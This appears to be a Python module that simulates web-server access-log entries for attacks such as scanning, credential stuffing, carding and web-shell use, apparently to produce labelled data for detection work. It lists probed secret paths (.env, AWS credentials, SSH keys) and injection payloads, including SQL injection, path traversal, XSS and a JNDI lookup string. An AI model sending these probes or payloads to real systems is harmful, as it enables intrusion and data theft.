"""Attacks in the access log, after OWASP's automated threats and ATT&CK."""

from __future__ import annotations

from typing import Final

import numpy as np
import pandas as pd

from ..incident import Incident, outside
from ..late import kinds, moment
from ..web import BROWSERS, OLD, PRODUCTS, PROGRAMS, SITE, table
from ..world import HOUR, World
from .trace import steps

# fmt: off
_SOUGHT: Final = (
    "/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/wp-login.php",
    "/wp-json/wp/v2/users", "/wp-config.php.bak", "/phpmyadmin/", "/pma/", "/administrator/",
    "/admin/login", "/manager/html", "/server-status", "/actuator/env", "/actuator/health",
    "/config.json", "/backup.zip", "/backup.sql", "/db.sql.gz", "/shop.tar.gz", "/phpinfo.php",
    "/info.php", "/test.php", "/cgi-bin/test.cgi", "/console/", "/solr/admin/info/system",
    "/api/v1/users", "/api/swagger.json", "/graphql", "/.DS_Store", "/.ssh/id_rsa", "/id_rsa",
    "/debug", "/trace.axd", "/web.config", "/composer.json", "/package.json",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/HNAP1", "/boaform/admin/formLogin",
    "/owa/", "/remote/login", "/cms/", "/old/", "/new/", "/dev/", "/staging/", "/uploads/", *OLD,
)
_SPLICED: Final = (
    "'", "%27", "%22", "%27--+-", "%27%20OR%201=1--", "1%20AND%201=1", "1%20AND%201=2",
    "%27%20ORDER%20BY%20{n}--", "%27%20UNION%20SELECT%20{n}--",
    "-1%20UNION%20ALL%20SELECT%20NULL,{n}--", "%27;WAITFOR%20DELAY%20%270:0:{n}%27--",
    "%27%20AND%20SLEEP({n})--", "%27||pg_sleep({n})--", "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd", "%3Cscript%3Ealert({n})%3C/script%3E",
    "${{jndi:ldap://x.example/{n}}}",
)
# fmt: on


def _addresses(rng: np.random.Generator, number: int) -> np.ndarray:
    return np.array([outside(rng) for _ in range(number)], dtype=object)


def _agent(rng: np.random.Generator) -> str:
    """Return what the program says it is: a browser, mostly, or a library."""
    return str(rng.choice(BROWSERS if rng.random() < 0.65 else PROGRAMS[2:]))


def _scanning(
    rng: np.random.Generator, world: World, seconds: np.ndarray, address: str
) -> pd.DataFrame:
    number = len(seconds)
    known = np.array(_SOUGHT, dtype=object)
    path = rng.choice(known, number, replace=number > len(known))
    found = rng.random(number)
    status = np.where(found < 0.04, 200, np.where(found < 0.1, 302, 404))
    heads = 0.2 * (rng.random() < 0.3)  # some scanners ask only whether it is there
    method = np.where(rng.random(number) < heads, "HEAD", "GET").astype(object)
    return table(rng, world, seconds, address, path, _agent(rng), method=method, status=status)


def _scan(world: World, rng: np.random.Generator) -> pd.DataFrame:
    """Return OAT-014 and T1595.002, vulnerability scanning, quick or over half a day."""
    number, pause = int(rng.integers(25, 90)), float(np.exp(rng.uniform(-2, 5.5)))
    begin = moment(world, rng, by_day=0.3, lasts=2 * number * pause)
    return _scanning(rng, world, steps(rng, begin, number, pause), outside(rng))


def _copied(
    rng: np.random.Generator, world: World, seconds: np.ndarray, addresses: np.ndarray
) -> pd.DataFrame:
    """Return items asked for one after the other, or in the order of a list made before."""
    number = len(seconds)
    first = int(rng.integers(0, len(PRODUCTS)))
    path = np.roll(np.array(PRODUCTS, dtype=object), -first)
    if rng.random() < 0.5:
        path = rng.permutation(path)
    by_app = rng.random() < 0.25
    path = ("/api" if by_app else "") + np.resize(path, number)
    agents = np.array([_agent(rng) for _ in addresses], dtype=object)
    by = rng.integers(0, len(addresses), number)
    size = 7.0 if by_app else 9.0
    return table(rng, world, seconds, addresses[by], path, agents[by], size=size)


def _scraping(world: World, rng: np.random.Generator) -> pd.DataFrame:
    """Return OAT-011, scraping: the catalogue is copied from one address or from several."""
    number, pause = int(rng.integers(30, 120)), float(np.exp(rng.uniform(-0.7, 4.5)))
    begin = moment(world, rng, by_day=0.4, lasts=2 * number * pause)
    homes = _addresses(rng, int(rng.choice([1, 1, 3, 8])))
    return _copied(rng, world, steps(rng, begin, number, pause), homes)


def _stuffing(world: World, rng: np.random.Generator) -> pd.DataFrame:
    """Return OAT-008, credential stuffing: leaked pairs tried at the login, some of them good."""
    number, pause = int(rng.integers(25, 80)), float(np.exp(rng.uniform(-1, 4)))
    begin = moment(world, rng, by_day=0.3, lasts=2 * number * pause)
    homes = _addresses(rng, int(rng.choice([1, 4, 15, 40])))
    by_app = rng.random() < 0.35
    good = rng.random(number) < rng.uniform(0.002, 0.04)
    agents = np.array([_agent(rng) for _ in homes], dtype=object)
    by = rng.integers(0, len(homes), number)
    return table(
        rng, world, steps(rng, begin, number, pause), homes[by],
        "/api/login" if by_app else "/login", agents[by], method="POST",
        status=np.where(good, 200 if by_app else 302, 401), size=7.0 if by_app else 6.5,
        referrer="-" if by_app or rng.random() < 0.5 else SITE + "/login",
    )  # fmt: skip


def _carding(world: World, rng: np.random.Generator) -> pd.DataFrame:
    """Return OAT-001, carding: small orders try cards; a refusal shows the form again."""
    number, pause = int(rng.integers(15, 55)), rng.uniform(3, 90)
    begin = moment(world, rng, by_day=0.3, lasts=3 * number * pause)
    homes = _addresses(rng, int(rng.choice([1, 3, 10])))
    who, agents = rng.choice(homes, number), _agent(rng)
    tried = steps(rng, begin, number, pause)
    taken = rng.random(number) < rng.uniform(0.05, 0.3)
    order = table(
        rng, world, tried, who, "/order", agents, method="POST", status=np.where(taken, 302, 200),
        referrer=SITE + "/cart", size=6.5,
    )  # fmt: skip
    filled = rng.random(number) < 0.2
    cart = table(
        rng, world, tried[filled] - rng.uniform(0.3, 2, int(filled.sum())), who[filled],
        "/cart/add", agents, method="POST", status=302, referrer=SITE + "/cart", size=6.5,
    )  # fmt: skip
    return pd.concat([order, cart], ignore_index=True)


def _inventory(world: World, rng: np.random.Generator) -> pd.DataFrame:
    """Return OAT-021, denial of inventory: carts are filled, again and again, and never paid."""
    number, pause = int(rng.integers(12, 38)), rng.uniform(2, 200)
    begin = moment(world, rng, by_day=0.4, lasts=3 * number * pause)
    homes = _addresses(rng, int(rng.integers(1, 8)))
    who, agents = rng.choice(homes, number), _agent(rng)
    item = rng.choice(rng.choice(np.array(PRODUCTS, dtype=object), 3), number)
    added = steps(rng, begin, number, pause)
    shown = rng.random(number) < 0.6
    before = added[shown] - rng.uniform(0.2, 3, int(shown.sum()))
    look = table(rng, world, before, who[shown], item[shown], agents)
    cart = table(
        rng, world, added, who, "/cart/add", agents, method="POST", status=302,
        referrer=SITE + "/cart", size=6.5,
    )  # fmt: skip
    return pd.concat([look, cart], ignore_index=True)


def _spliced(
    rng: np.random.Generator, world: World, seconds: np.ndarray, address: str
) -> pd.DataFrame:
    number = len(seconds)
    what = rng.choice(np.array(_SPLICED, dtype=object), number)
    item = str(rng.choice(PRODUCTS)) + "?ref="
    places = np.array(["/search?q=lamp", item, "/list/home?page=1", "/search?q="], dtype=object)
    base = rng.choice(places, number)
    drawn = zip(base, what, rng.integers(1, 12, number), strict=True)
    path = np.array([one + two.format(n=n) for one, two, n in drawn], dtype=object)
    status = rng.choice([200, 404, 500], number, p=(0.7, 0.15, 0.15))
    return table(rng, world, seconds, address, path, _agent(rng), status=status)


def _injection(world: World, rng: np.random.Generator) -> pd.DataFrame:
    """Return T1190, exploitation of a public application: pieces of SQL, paths and scripts."""
    number, pause = int(rng.integers(12, 45)), float(np.exp(rng.uniform(-1, 5)))
    begin = moment(world, rng, by_day=0.4, lasts=2 * number * pause)
    return _spliced(rng, world, steps(rng, begin, number, pause), outside(rng))


def _shell(world: World, rng: np.random.Generator) -> pd.DataFrame:
    """Return T1505.003, web shell: something is sent up, then asked now and then for hours."""
    number, pause = int(rng.integers(4, 16)), float(np.exp(rng.uniform(2.5, 7.5)))
    begin = moment(world, rng, by_day=0.4, lasts=min(2 * number * pause, 30 * HOUR))
    places = ("/static/icons", "/static/cart", "/uploads/logo", "/static/app", "/comment/img")
    name = f"{rng.choice(places)}{rng.choice(['.php', '.php', '.jsp', '.aspx'])}"
    address, agent = outside(rng), _agent(rng)
    sent = table(
        rng, world, np.array([begin]), address, "/comment", agent, method="POST", status=302,
        referrer=SITE + "/cart", size=6.5,
    )  # fmt: skip
    seconds = steps(rng, begin + rng.uniform(5, 300), number, pause)
    method = np.where(rng.random(number) < 0.7, "POST", "GET").astype(object)
    asked = table(rng, world, seconds, address, name, agent, method=method, size=6.0)
    return pd.concat([sent, asked], ignore_index=True)


KINDS: Final = {
    "vulnerability scan": _scan,
    "scraping": _scraping,
    "credential stuffing": _stuffing,
    "carding": _carding,
    "denial of inventory": _inventory,
    "injection attempts": _injection,
    "web shell": _shell,
}


def incident(world: World, plan: Incident, rng: np.random.Generator) -> pd.DataFrame:
    """Return the incident's requests: probing, injection, and the copying of the catalogue.

    Parameters
    ----------
    world
        Gives the clock.
    plan
        Says whence and when.
    rng
        Draws the rest.
    """
    probed = steps(rng, plan.scan, int(rng.integers(20, 45)), rng.uniform(0.5, 20))
    tried = steps(rng, probed[-1] + rng.uniform(60, 900), int(rng.integers(6, 16)), 25)
    copied = steps(rng, plan.scrape, int(rng.integers(25, 65)), rng.uniform(1, 25))
    return kinds(
        ("vulnerability scan", _scanning(rng, world, probed, plan.outside)),
        ("injection attempts", _spliced(rng, world, tried, plan.outside)),
        ("scraping", _copied(rng, world, copied, np.array([plan.outside], dtype=object))),
    )
